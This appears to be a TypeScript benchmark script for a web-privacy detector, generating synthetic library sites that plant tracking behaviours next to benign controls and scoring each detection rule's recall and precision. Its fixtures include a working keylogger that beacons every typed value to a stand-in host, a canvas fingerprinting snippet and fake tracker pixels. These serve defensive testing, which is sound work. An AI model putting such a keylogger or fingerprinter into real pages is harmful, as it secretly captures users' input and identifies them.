/**
 * Detector benchmark (`npm run bench:detectors [-- --sites N --seed S]`): generates a seeded corpus of library
 * sites, each planting a random subset of surveillance behaviours next to always-present benign controls
 * (first-party autocomplete, canvas chart, avatar thumbnail, session cookie, self-hosted counter, HSTS,
 * strict referrer policy, privacy link); some sites plant nothing. Every site is scanned in Chromium and
 * audited; a rule firing on a site is a true positive when a planted behaviour implies it, a false positive
 * otherwise. Prints recall and precision per rule and overall, and false positives on the control-only sites.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { audit } from '../src/engine/audit.js';
import { scanFixture } from '../test/harness/scan-fixture.js';
import { seededRandom } from '../src/model/random.js';

interface Behaviour {
  id: string;
  /** Rules this behaviour must make fire. */
  rules: string[];
  head?: string;
  body?: string;
  /** Files of third-party hosts: host → path → content. */
  files?: Record<string, Record<string, string>>;
  /** Rules it may also make fire truthfully (not required for recall, not counted as false positives). */
  may?: string[];
  /** Removes a control (hygiene behaviours). */
  drops?: 'hsts' | 'privacy' | 'referrer';
}

const H = (host: string) => `'https://' + location.host.replace(/^[^:]*/, '${host}')`;
const BEHAVIOURS: Behaviour[] = [
  { id: 'mixpanel', rules: ['third-party-tracker'], head: '<script src="{{origin:cdn.mxpnl.com}}/libs/mixpanel.js"></script>',
    files: { 'cdn.mxpnl.com': { 'libs/mixpanel.js': `fetch(${H('api-js.mixpanel.com')} + '/track', { method: 'POST', mode: 'no-cors', body: 'data=e30=' }).catch(function () {});` } } },
  { id: 'meta-pixel', rules: ['advertising-pixel', 'first-party-tracking-cookie'], head: '<script src="{{origin:connect.facebook.net}}/en_US/fbevents.js"></script>',
    files: { 'connect.facebook.net': { 'en_US/fbevents.js': `document.cookie = '_fbp=fb.1.1700000000000.99; path=/; max-age=7776000'; new Image().src = ${H('www.facebook.com')} + '/tr?id=1&ev=PageView';` } } },
  { id: 'ga4', rules: ['google-analytics', 'first-party-tracking-cookie'], head: '<script src="{{origin:www.googletagmanager.com}}/gtag/js.js?id=G-BENCH1"></script>',
    files: { 'www.googletagmanager.com': { 'gtag/js.js': `document.cookie = '_ga=GA1.1.123.456; path=/; max-age=63072000'; fetch(${H('region1.google-analytics.com')} + '/g/collect?v=2&tid=G-BENCH1', { method: 'POST', mode: 'no-cors' }).catch(function () {});` } } },
  { id: 'keylogger', rules: ['key-logging', 'search-term-leak', 'third-party-content'], head: '<script src="{{origin:keys.example}}/k.js"></script>',
    files: { 'keys.example': { 'k.js': `document.addEventListener('input', function (e) { var v = e.target && e.target.value; if (v) navigator.sendBeacon(${H('keys.example')} + '/k', btoa(unescape(encodeURIComponent(v)))); }, true);` } } },
  { id: 'cover', rules: ['reading-leak'], body: '<p>ISBN 978-0-306-40615-7</p><img src="{{origin:syndetics.com}}/index.aspx?isbn=9780306406157/SC.GIF" alt="">' },
  { id: 'fingerprint', rules: ['fingerprinting', 'third-party-content'], head: '<script src="{{origin:fp.vendor.example}}/fp.js"></script>',
    files: { 'fp.vendor.example': { 'fp.js': `(function(){var c=document.createElement('canvas');c.width=200;c.height=40;var x=c.getContext('2d');['Cwm ','fjord ','glyph'].forEach(function(p,i){x.fillText(p,5+i*50,20)});c.toDataURL();})();` } } },
  { id: 'replay', rules: ['session-replay'], head: '<script src="/js/helper.js"></script>',
    body: `<script>var ev=[];if(window.rrweb)rrweb.record({emit:function(e){ev.push(e)}});setTimeout(function(){fetch('/ux/ingest',{method:'POST',body:JSON.stringify(ev.slice(0,3))}).catch(function(){})},300);</script>` },
  { id: 'face-models', rules: ['face-recognition'], body: `<script>fetch('/models/tiny_face_detector_model-weights_manifest.json').catch(function(){});fetch('/cv/haarcascade_frontalface_default.xml').catch(function(){});</script>` },
  { id: 'widget', rules: ['third-party-content'], head: '<script src="{{origin:widgets.unknown-vendor.example}}/w.js"></script>', files: { 'widgets.unknown-vendor.example': { 'w.js': 'window.w = 1;' } } },
  { id: 'google-fonts', rules: ['third-party-fonts-cdn'], head: '<link rel="stylesheet" href="{{origin:fonts.googleapis.com}}/css2.css?family=Lato">', files: { 'fonts.googleapis.com': { 'css2.css': '/* */' } } },
  { id: 'mixed', rules: ['mixed-content'], may: ['third-party-content'], body: '<img src="http://insecure.example/b.png" alt="">' },
  { id: 'no-hsts', rules: ['https-hsts'], drops: 'hsts' },
  { id: 'no-privacy-link', rules: ['privacy-policy-link'], drops: 'privacy' },
  { id: 'leaky-referrer', rules: ['referrer-policy'], drops: 'referrer', head: '<meta name="referrer" content="unsafe-url">' },
];

const CONTROLS_BODY = `<form action="/search" method="get" role="search"><input type="search" name="q"></form>
<canvas id="chart" width="400" height="200"></canvas><canvas id="th" width="32" height="32"></canvas>
<script src="/count.js"></script>
<script>
document.querySelector('input[name=q]').addEventListener('input',function(e){fetch('/suggest?q='+encodeURIComponent(e.target.value)).catch(function(){})});
var c=document.getElementById('chart').getContext('2d');[30,50,20].forEach(function(v,i){c.fillRect(20+i*60,180-v,40,v);c.fillText('M'+i,30+i*60,195)});
var im=new Image();im.onload=function(){var t=document.getElementById('th');t.getContext('2d').drawImage(im,0,0,32,32);t.toDataURL()};im.src='/avatar.svg';
</script>`;

const ROUTES = `export default function routes(req, res, ctx) {
  const p = ctx.url.pathname;
  const h = JSON.parse(process.env.__H || '{}');
  if (p === '/suggest') { res.writeHead(200, { 'content-type': 'application/json' }); res.end(JSON.stringify({ q: ctx.url.searchParams.get('q') })); return true; }
  if (p === '/js/helper.js') { res.writeHead(200, { 'content-type': 'text/javascript' }); res.end(ctx.npmFile('rrweb/dist/rrweb.umd.min.cjs')); return true; }
  if (p === '/count' || p === '/ux/ingest' || p.startsWith('/models/') || p.startsWith('/cv/')) { res.writeHead(200, { 'content-type': 'text/plain' }); res.end('{}'); return true; }
  return false;
}`;


/** Write one generated site (library host + third-party hosts) under `root`; return its planted behaviours. */
function writeSite(root: string, planted: Behaviour[]): void {
  const lib = join(root, 'www.library.example');
  mkdirSync(lib, { recursive: true });
  const drops = new Set(planted.map((b) => b.drops).filter(Boolean));
  const head = planted.map((b) => b.head ?? '').join('\n');
  const body = planted.map((b) => b.body ?? '').join('\n');
  const privacy = drops.has('privacy') ? '' : '<footer><a href="/privacy">Privacy policy</a></footer>';
  writeFileSync(join(lib, 'index.html'), `<!doctype html><html><head><title>Library</title>\n${head}\n</head><body><h1>Catalogue</h1>\n${CONTROLS_BODY}\n${body}\n${privacy}</body></html>`);
  writeFileSync(join(lib, 'count.js'), "navigator.sendBeacon('/count', location.pathname);");
  writeFileSync(join(lib, 'avatar.svg'), '<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32"><circle cx="16" cy="16" r="12"/></svg>');
  writeFileSync(join(lib, '_routes.mjs'), ROUTES);
  const headers: Record<string, string | string[]> = { 'set-cookie': ['SESSIONID=abc123; Path=/; Secure; HttpOnly; SameSite=Lax'] };
  if (!drops.has('hsts')) headers['strict-transport-security'] = 'max-age=31536000';
  if (!drops.has('referrer')) headers['referrer-policy'] = 'strict-origin-when-cross-origin';
  writeFileSync(join(lib, '_headers.json'), JSON.stringify({ '/': headers }));
  for (const b of planted) for (const [host, files] of Object.entries(b.files ?? {})) for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(root, host, path, '..'), { recursive: true });
    writeFileSync(join(root, host, path), text);
  }
  writeFileSync(join(root, 'start'), 'www.library.example');
}

const { values } = parseArgs({ options: { sites: { type: 'string', default: '22' }, seed: { type: 'string', default: '7' }, controls: { type: 'string', default: '4' } } });
const nSites = Number(values.sites);
const nControls = Number(values.controls);
const rand = seededRandom(Number(values.seed));
const dir = mkdtempSync(join(tmpdir(), 'fid-bench-'));
const RULES = [...new Set(BEHAVIOURS.flatMap((b) => b.rules))].sort();
const tally = new Map(RULES.map((r) => [r, { tp: 0, fp: 0, fn: 0 }]));
let controlFp = 0;
const started = Date.now();

try {
  for (let i = 0; i < nSites; i++) {
    const planted = i < nControls ? [] : BEHAVIOURS.filter(() => rand() < 0.35);
    const root = join(dir, `site-${String(i).padStart(2, '0')}`);
    writeSite(root, planted);
    const o = await scanFixture(`site-${i}`, { root, config: { settleMs: 800, pageTimeoutMs: 60_000 } });
    const result = audit(o);
    const fired = new Set(result.findings.filter((f) => f.outcome === 'fail' || f.outcome === 'needs-review').map((f) => f.ruleId));
    const expected = new Set(planted.flatMap((b) => b.rules));
    const allowed = new Set(planted.flatMap((b) => b.may ?? []));
    for (const r of RULES) {
      const t = tally.get(r)!;
      if (expected.has(r) && fired.has(r)) t.tp++;
      else if (expected.has(r)) t.fn++;
      else if (fired.has(r) && !allowed.has(r)) { t.fp++; if (planted.length === 0) controlFp++; }
    }
    const pageErr = o.visits[0]?.pages[0]?.errors.map((e) => e.code).join(',') ?? '';
    process.stderr.write(`site ${i}: planted [${planted.map((b) => b.id).join(', ')}] fired [${[...fired].sort().join(', ')}]${pageErr ? ` errors ${pageErr}` : ''}\n`);
  }
} finally {
  rmSync(dir, { recursive: true, force: true });
}

const pct = (a: number, b: number) => (b === 0 ? 'n/a' : `${((100 * a) / b).toFixed(1)}%`);
let TP = 0, FP = 0, FN = 0;
console.log(`Detector benchmark: ${nSites} generated sites (seed ${values.seed}, ${nControls} control-only), ${((Date.now() - started) / 1000).toFixed(0)} s`);
console.log('rule'.padEnd(30) + 'TP'.padStart(4) + 'FN'.padStart(4) + 'FP'.padStart(4) + 'recall'.padStart(9) + 'precision'.padStart(11));
for (const [r, t] of tally) {
  TP += t.tp; FP += t.fp; FN += t.fn;
  console.log(r.padEnd(30) + String(t.tp).padStart(4) + String(t.fn).padStart(4) + String(t.fp).padStart(4) + pct(t.tp, t.tp + t.fn).padStart(9) + pct(t.tp, t.tp + t.fp).padStart(11));
}
console.log(`overall: recall ${pct(TP, TP + FN)}, precision ${pct(TP, TP + FP)}; false positives on control-only sites: ${controlFp}`);
console.log('blacklight-collector side by side: not run (see docs/detectors.md).');
